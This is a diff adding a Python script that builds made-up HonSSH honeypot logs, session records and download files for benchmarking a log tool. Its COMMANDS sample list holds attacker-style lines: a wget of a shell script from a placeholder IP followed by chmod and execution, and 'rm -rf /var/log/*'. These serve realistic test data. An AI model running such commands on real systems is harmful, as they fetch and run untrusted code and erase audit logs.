@@ -0,0 +1,173 @@
+"""
+    Builds a tree of made-up HonSSH data, laid out as HonSSH lays it out,
+    for pogo's benchmarks (and for trying pogo out without a honeypot):
+
+    top_dir/
+        logs/
+            YYYYMMDD            one attempt file per day
+            honssh.log          log entries, some with tracebacks, whose
+            honssh.log.1        lines start with a tab
+        sessions/
+            [workstation/]      only for MULTI
+                source ip/
+                    YYYYMMDD_HHMMSS_NNN.log           session logs
+                    YYYYMMDD_HHMMSS_NNN_TERMn.tty     session recordings
+                    downloads/
+                        YYYYMMDD_HHMMSS_name          downloaded files; some
+                                                      are the same file again
+
+    The amount of data grows in proportion to scale; at scale 1 it's about
+    2 MB. The same seed always gives the same data. All the files are
+    given a modification time in the past, so pogo treats them as finished.
+
+    Run as a script to make a tree:
+        python -m benchmarks.honssh_data /tmp/honssh --layout MULTI --scale 10
+"""
+import argparse
+import binascii
+import datetime
+import glob
+import os
+import os.path
+import random
+import time
+
+# Per unit of scale:
+DAYS = 3
+ATTEMPTS_PER_DAY = 2000
+LOG_ENTRIES = 3000
+SOURCE_IPS = 20
+SESSIONS_PER_IP = 3
+SESSION_LOG_LINES = 60
+RECORDING_BYTES = 16 * 1024
+DOWNLOAD_BYTES = 32 * 1024
+
+WORKSTATIONS = ( 'Workstation_01_A', 'Workstation_02_A', 'Workstation_03_B' )
+USERS = ( 'root', 'admin', 'test', 'oracle', 'ubuntu', 'pi', 'user', 'guest', 'postgres', 'git' )
+PASSWORDS = ( '123456', 'password', 'admin', 'root', '1234', 'toor', 'qwerty', 'raspberry',
+              'changeme', 'pass,word', '' )
+COMMANDS = ( 'uname -a', 'cat /proc/cpuinfo', 'wget http://203.0.113.7/x.sh', 'chmod +x x.sh',
+             './x.sh', 'ls -la', 'cd /tmp', 'rm -rf /var/log/*', 'ps aux', 'free -m', 'exit' )
+DOWNLOAD_NAMES = ( 'x.sh', 'bot.pl', 'mirai.arm7', 'kaiten.c', 'install.sh', 'xmrig.tar.gz' )
+LOG_MESSAGES = ( 'New connection from %s', 'Login attempt: root/%s', 'Lost connection with %s',
+                 'Connection refused by %s', 'Channel opened for %s' )
+
+OLD = time.mktime((2015, 3, 1, 0, 0, 0, 0, 0, -1))
+
+
+def random_ip(rng):
+    # Addresses from a spread of public ranges, so that geoip finds countries for them:
+    return '%d.%d.%d.%d' % (rng.choice((1, 5, 27, 41, 58, 61, 77, 91, 103, 112, 117, 177, 185, 190, 201, 222)),
+                            rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))
+
+
+def random_bytes(rng, size):
+    return binascii.unhexlify('%0*x' % (size * 2, rng.getrandbits(size * 8)))
+
+
+def write_file(path, data, mtime):
+    d = os.path.dirname(path)
+    if not os.path.isdir(d):
+        os.makedirs(d)
+    with open(path, 'wb') as f:
+        f.write(data)
+    os.utime(path, (mtime, mtime))
+    return len(data)
+
+
+def attempt_lines(rng, day, count, ips):
+    for i in range(count):
+        t = day + datetime.timedelta(seconds=i * 86400 // count)
+        yield '%s,%s,%s,%s,%d\n' % (t.strftime('%Y-%m-%d %H:%M:%S'), rng.choice(ips),
+                                    rng.choice(USERS), rng.choice(PASSWORDS), int(rng.random() < 0.02))
+
+
+def log_lines(rng, start, count, ips):
+    for i in range(count):
+        t = start + datetime.timedelta(seconds=i * 7)
+        message = rng.choice(LOG_MESSAGES) % rng.choice(ips)
+        yield '%s-0500 [HonsshServerTransport,%d,%s] %s\n' % (t.strftime('%Y-%m-%d %H:%M:%S'), i % 50,
+                                                              rng.choice(ips), message)
+        if rng.random() < 0.05:
+            yield '\tTraceback (most recent call last):\n'
+            yield '\t  File "honssh/server.py", line %d, in dataReceived\n' % rng.randint(10, 900)
+            yield '\tsocket.error: [Errno 104] Connection reset by peer\n'
+
+
+def session_log_lines(rng, start, count):
+    for i in range(count):
+        t = start + datetime.timedelta(seconds=i * 3)
+        channel = rng.choice(('session', 'exec', 'direct-tcpip'))
+        yield '%s - [%s] %s\n' % (t.strftime('%Y-%m-%d %H:%M:%S'), channel, rng.choice(COMMANDS))
+
+
+"""
+    Make a tree of HonSSH data under top_dir, with layout 'SINGLE'
+    or 'MULTI'. Returns the number of files and bytes written.
+"""
+def generate(top_dir, layout='SINGLE', scale=1, seed=0, mtime=OLD):
+    rng = random.Random(seed)
+    scale = max(1, int(scale))
+    counts = { 'files': 0, 'bytes': 0 }
+    def write(path, data):
+        counts['bytes'] += write_file(path, data, mtime)
+        counts['files'] += 1
+    logs = os.path.join(top_dir, 'logs')
+    sessions = os.path.join(top_dir, 'sessions')
+    ips = [ random_ip(rng) for i in range(SOURCE_IPS * scale) ]
+    first_day = datetime.datetime(2015, 3, 1)
+    for d in range(DAYS * scale):
+        day = first_day + datetime.timedelta(days=d)
+        write(os.path.join(logs, day.strftime('%Y%m%d')),
+              ''.join(attempt_lines(rng, day, ATTEMPTS_PER_DAY, ips)))
+    entries = LOG_ENTRIES * scale
+    write(os.path.join(logs, 'honssh.log.1'), ''.join(log_lines(rng, first_day, entries // 2, ips)))
+    write(os.path.join(logs, 'honssh.log'),
+          ''.join(log_lines(rng, first_day + datetime.timedelta(days=1), entries - entries // 2, ips)))
+    # A few files that are downloaded again and again:
+    popular = [ random_bytes(rng, rng.randint(1, DOWNLOAD_BYTES)) for i in range(3) ]
+    for (n, ip) in enumerate(ips):
+        ip_dir = os.path.join(sessions, WORKSTATIONS[n % len(WORKSTATIONS)], ip) if layout == 'MULTI' \
+                 else os.path.join(sessions, ip)
+        for s in range(SESSIONS_PER_IP):
+            start = first_day + datetime.timedelta(seconds=rng.randint(0, DAYS * scale * 86400))
+            stamp = start.strftime('%Y%m%d_%H%M%S') + '_%03d' % rng.randint(0, 999)
+            write(os.path.join(ip_dir, stamp + '.log'), ''.join(session_log_lines(rng, start, SESSION_LOG_LINES)))
+            write(os.path.join(ip_dir, stamp + '_TERM%d.tty' % s), random_bytes(rng, rng.randint(1, RECORDING_BYTES)))
+            if rng.random() < 0.5:
+                contents = rng.choice(popular) if rng.random() < 0.5 else random_bytes(rng, rng.randint(1, DOWNLOAD_BYTES))
+                write(os.path.join(ip_dir, 'downloads', start.strftime('%Y%m%d_%H%M%S_') + rng.choice(DOWNLOAD_NAMES)),
+                      contents)
+    return counts
+
+
+"""
+    The paths, in order, of the files under top_dir matching
+    the glob pattern made by joining the given parts.
+"""
+def find_files(top_dir, *pattern):
+    return sorted(glob.glob(os.path.join(str(top_dir), *pattern)))
+
+"""
+    All the lines of all the files that find_files() finds.
+"""
+def read_lines(top_dir, *pattern):
+    lines = []
+    for path in find_files(top_dir, *pattern):
+        with open(path, 'rb') as f:
+            lines.extend(f.readlines())
+    return lines
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Make a tree of made-up HonSSH data.')
+    parser.add_argument('top_dir')
+    parser.add_argument('--layout', choices=('SINGLE', 'MULTI'), default='SINGLE')
+    parser.add_argument('--scale', type=int, default=1)
+    parser.add_argument('--seed', type=int, default=0)
+    args = parser.parse_args()
+    counts = generate(args.top_dir, args.layout, args.scale, args.seed)
+    print "Wrote %s files, %s bytes, to %s" % (counts['files'], counts['bytes'], args.top_dir)
+
+if __name__ == '__main__':
+    main()